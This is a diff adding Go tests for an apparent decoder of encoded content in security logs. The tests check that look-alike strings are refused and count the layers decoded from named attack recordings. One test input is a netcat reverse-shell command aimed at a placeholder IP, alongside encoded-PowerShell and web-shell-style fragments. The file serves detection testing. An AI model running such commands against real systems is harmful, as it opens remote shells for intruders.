@@ -1,0 +1,106 @@
+package unpack
+
+import (
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+)
+
+// What looks like base64 and is none.
+func TestRefused(t *testing.T) {
+	for _, in := range []string{
+		`C:\Windows\System32\WindowsPowerShell\v1.0\Modules\PSDesiredStateConfiguration\PSDesiredStateConfiguration`,
+		"/usr/share/applications/org.gnome.Settings/usr/lib/x86_64-linux-gnu/gstreamer1.0",
+		"/opt/SplunkForwarder/etc/apps/TaWindowsInputs/default/Inputs1234",
+		"{6b29fc40-ca47-1067-b31d-00dd010662da}",
+		"6B29FC40CA471067B31D00DD010662DA",
+		"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+		"1234567890123456789012345678901234567890",
+		"S-1-5-21-3623811015-3361044348-30300820-1013",
+		"GetProcAddressForCallerWithSecurityContext",
+		"InternalSystemServiceConfigurationManagerFactoryBean",
+		"SeAssignPrimaryTokenPrivilege SeIncreaseWorkingSetPrivilege SeImpersonatePrivilege",
+		"Microsoft-Windows-PowerShell/Operational",
+		"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
+		strings.Repeat("A", 400), strings.Repeat("/", 400), strings.Repeat("=", 400), strings.Repeat("-_", 400),
+		"[Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($command))",
+		"base64_decode(GetParameterValuesFromRequest)",
+		"xn--80ak6aa92e.com d111111abcdef8.cloudfront.net ec2-198-51-100-7.compute-1.amazonaws.com",
+		"Set-ItemProperty -Path HKCU:Software -ErrorAction SilentlyContinue",
+		"nc.exe -e powershell 198.51.100.7", "cscript /e:vbscript a.txt", "filebeat -e -modules=system",
+		b64([]byte("a text with one digit too many."))[:41] + "  ",
+		"x^2+y^2 " + b64([]byte{0x78, 0x9c, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15}),
+	} {
+		if got := rows(New(Limits{}).Unpack(in)); got != nil {
+			t.Errorf("%.200s\nunpacked to %+v", in, got)
+		}
+	}
+}
+
+// TestFalsePositives unpacks every field of every recording and counts the
+// different outermost layers of each. All of them were read one by one and are
+// real; a recording that is not listed must give none.
+func TestFalsePositives(t *testing.T) {
+	for set, want := range map[string]map[string]int{
+		"demo": {
+			"01-initial-access-vbs-encoded-powershell": 2,
+			"02-credential-theft-and-beacon":           1,
+			"03-lateral-movement-psexec":               3,
+			"09-web-access-background":                 2,
+			"10-encoded-powershell-in-the-wild":        17,
+		},
+		"dev": {
+			"ad-gootloader":        1,
+			"ad-runonce":           2,
+			"ca-reg-dump-sam":      1,
+			"ca-rubeus-asktgt-ptt": 3,
+			"cc0-evtx-Persistence-T1543.003-Create-or-Modify-System-Process-Windows-Service-ID4697-MSF-payload-deployed-via-service": 1,
+			"cc0-evtx-TA0002-Execution-T1059.001-PowerShell-ID4688-Encoded-PowerShell-MSF-payload-via-process-execution":             1,
+			"de-dllinjection-beacon":       3,
+			"de-netntlm-downgrade-beacon":  1,
+			"de-regsvr32-sct":              2,
+			"di-net-localgroup":            1,
+			"exchange-admin-audit":         1,
+			"lm-empire-psremoting":         3,
+			"lm-empire-wmi":                5,
+			"log4shell-linux-auditd":       1,
+			"log4shell-linux-sysmon":       1,
+			"log4shell-windows-security":   1,
+			"log4shell-windows-sysmon":     1,
+			"pscmd-corpus":                 321,
+			"sigma-regression":             1,
+			"web-apache-access":            2,
+			"windows-processes-on-host":    2,
+			"winlogbeat-nested-enable-rdp": 2,
+		},
+	} {
+		t.Run(set, func(t *testing.T) {
+			files, err := filepath.Glob(filepath.Join(shared(t, "data", set), "*.ndjson.gz"))
+			if err != nil {
+				t.Fatal(err)
+			}
+			u, got := New(Limits{}), make(map[string]int)
+			for _, path := range files {
+				name := strings.TrimSuffix(filepath.Base(path), ".ndjson.gz")
+				seen := make(map[string]bool)
+				events(t, path, func(_ int, fields map[string][]string) {
+					for _, values := range fields {
+						for _, v := range values {
+							for _, l := range u.Unpack(v) {
+								if l.Depth == 1 && !seen[string(l.Data)] {
+									seen[string(l.Data)] = true
+									got[name]++
+								}
+							}
+						}
+					}
+				})
+			}
+			if diff := cmp.Diff(want, got); diff != "" {
+				t.Errorf("outermost layers by recording (-want +got)\n%s", diff)
+			}
+		})
+	}
+}
